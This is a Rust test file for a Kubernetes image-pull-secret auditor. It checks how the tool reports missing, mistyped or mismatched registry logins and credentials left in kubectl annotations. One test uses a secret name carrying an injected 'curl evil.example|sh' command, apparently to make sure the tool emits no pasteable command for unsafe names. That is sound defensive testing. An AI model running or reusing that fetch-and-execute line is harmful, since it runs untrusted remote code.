use std::collections::BTreeMap;

use serde_json::json;

use super::*;
use crate::mapping;

const MAPPING: &str = r#"
rules:
  - registries: [quay.io/acme]
    secret: acme
  - registries: ["*.ecr.example.com"]
    secret: ecr
  - registries: [other.example.com]
    secret: other
    namespaces: [elsewhere]
always: [debug]
"#;

const PULL: &str = "kubernetes.io/dockerconfigjson";
const PASSWORD: &str = "hunter2";

fn secrets_of<'m>(
    namespace: &'m str,
    mapping: &'m Mapping,
    needs: &'m BTreeMap<String, BTreeSet<String>>,
) -> NamespaceSecrets<'m> {
    NamespaceSecrets::new(Audience { mapping, namespace, labels: None }, needs, &Settled::new())
}

/// Finds of the Secret `name` in `shop`, whose Pods need it for `images`.
fn judged(name: &str, found: Option<(&str, &str)>, images: &[&str]) -> String {
    let mapping = mapping::parse(MAPPING).unwrap();
    let images: BTreeSet<String> = images.iter().map(ToString::to_string).collect();
    let needs = if images.is_empty() {
        BTreeMap::new()
    } else {
        BTreeMap::from([(name.to_owned(), images)])
    };
    let secrets = secrets_of("shop", &mapping, &needs);
    let secret = found.map(|(type_, text)| {
        let data = BTreeMap::from([(".dockerconfigjson".to_owned(), text.as_bytes().to_vec())]);
        SecretManifest::new(name.to_owned(), None, Some(type_.to_owned()), data)
    });
    let asked = Asked {
        namespace: "shop".to_owned(),
        name: name.to_owned(),
        found: Ok(secret),
        is_in_annotation: false,
    };
    let mut report = Report::default();
    let mut spare = Spare::default();
    secrets.judge(vec![asked], &mut spare, &mut report);
    spare.report(&mut report);
    let reported = report.json();
    assert!(!reported.contains(PASSWORD), "{reported}");
    reported
}

fn login(registry: &str) -> String {
    json!({"auths": {registry: {"username": "robot", "password": PASSWORD}}}).to_string()
}

#[test]
fn a_secret_that_pods_need_must_open_their_images() {
    let image = &["quay.io/acme/web"][..];
    let with = |text: &str| judged("acme", Some((PULL, text)), image);
    assert_eq!(with(&login("quay.io")), "");
    assert_eq!(with(&login("quay.io/acme/web")), "");
    let no_user = json!({"auths": {"quay.io": {"password": PASSWORD}}}).to_string();
    let line_break =
        json!({"auths": {"quay.io": {"username": "robot", "password": "x\n"}}}).to_string();
    let in_the_key = login(&format!("https://robot:{PASSWORD}@ghcr.io"));
    for (reported, part) in [
        (judged("acme", None, image), "missing-secret\",\"where\":\"secret shop/acme\""),
        (judged("acme", Some(("Opaque", "{}")), image), "secret-type"),
        (judged("acme", Some((PULL, "")), image), "secret-type"),
        (with(PASSWORD), "unreadable-secret"),
        (with("{}"), "no login for quay.io/acme/web: it has one for nothing"),
        (with(&in_the_key), "it has one for https://…@ghcr.io"),
        (with(&login("quay.io/Acme")), "its key quay.io/Acme does not match, since"),
        (with(&no_user), "the entry quay.io has no user"),
        (with(&line_break), "odd-secret"),
    ] {
        assert_eq!(reported.lines().count(), 1, "{reported}");
        assert!(reported.contains(part), "{part}: {reported}");
    }
}

#[test]
fn a_secret_that_no_pod_needs_yet_is_held_against_its_rule() {
    let with = |text: &str| judged("acme", Some((PULL, text)), &[]);
    for text in [login("quay.io"), login("quay.io/acme"), login("quay.io/acme/web")] {
        assert_eq!(with(&text), "", "{text}");
    }
    for text in [login("ghcr.io"), login("quay.io/other"), login("quay.io/acmeevil")] {
        let reported = with(&text);
        assert!(
            reported.contains("warning") && reported.contains("quay.io/acme (line 3)"),
            "{reported}"
        );
    }
    // Which registries a glob stands for is not known.
    assert_eq!(judged("ecr", Some((PULL, &login("quay.io"))), &[]), "");
    assert!(judged("acme", None, &[]).contains("note"));
}

#[test]
fn only_what_the_rules_have_for_a_namespace_is_asked_for() {
    let mapping = mapping::parse(MAPPING).unwrap();
    let needs = BTreeMap::from([("debug".to_owned(), BTreeSet::new())]);
    let names = |namespace, needs| {
        let names = secrets_of(namespace, &mapping, needs).names();
        names.into_iter().map(|(_, name)| name).collect::<Vec<_>>()
    };
    assert_eq!(names("shop", &needs), ["acme", "debug", "ecr"]);
    assert_eq!(names("elsewhere", &BTreeMap::new()), ["acme", "ecr", "other"]);
}

/// `kubectl apply` leaves a copy of what it applied. The command that removes it is one that can be pasted.
#[test]
fn logins_in_an_annotation_are_a_note_with_a_command() {
    let mapping = mapping::parse(MAPPING).unwrap();
    let needs = BTreeMap::new();
    let secrets = secrets_of("shop", &mapping, &needs);
    for (name, command) in [
        ("acme", ": kubectl annotate secret acme -n shop kubectl.kubernetes.io/last-applied"),
        ("x; curl evil.example|sh", "from now on\""),
    ] {
        let asked = |is_in_annotation| Asked {
            namespace: "shop".to_owned(),
            name: name.to_owned(),
            found: Err("not of interest here".to_owned()),
            is_in_annotation,
        };
        for (is_in_annotation, lines) in [(true, 1), (false, 0)] {
            let (mut spare, mut report) = (Spare::default(), Report::default());
            secrets.judge(vec![asked(is_in_annotation)], &mut spare, &mut report);
            let out = report.json();
            let found: Vec<_> = out.lines().filter(|it| it.contains("applied-login")).collect();
            assert_eq!(found.len(), lines, "{out}");
            assert!(found.iter().all(|it| it.contains(command)), "{out}");
        }
    }
}

#[test]
fn secrets_that_no_pod_needs_yet_are_one_note() {
    let mut spare = Spare::default();
    for (namespace, secret) in
        [("a", "acme"), ("a", "hub"), ("b", "acme"), ("b", "hub"), ("b", "x")]
    {
        spare.add(namespace, secret);
    }
    let mut report = Report::default();
    spare.report(&mut report);
    let out = report.json();
    assert!(out.contains("yet: acme, hub in a, b; x in b\""), "{out}");
}
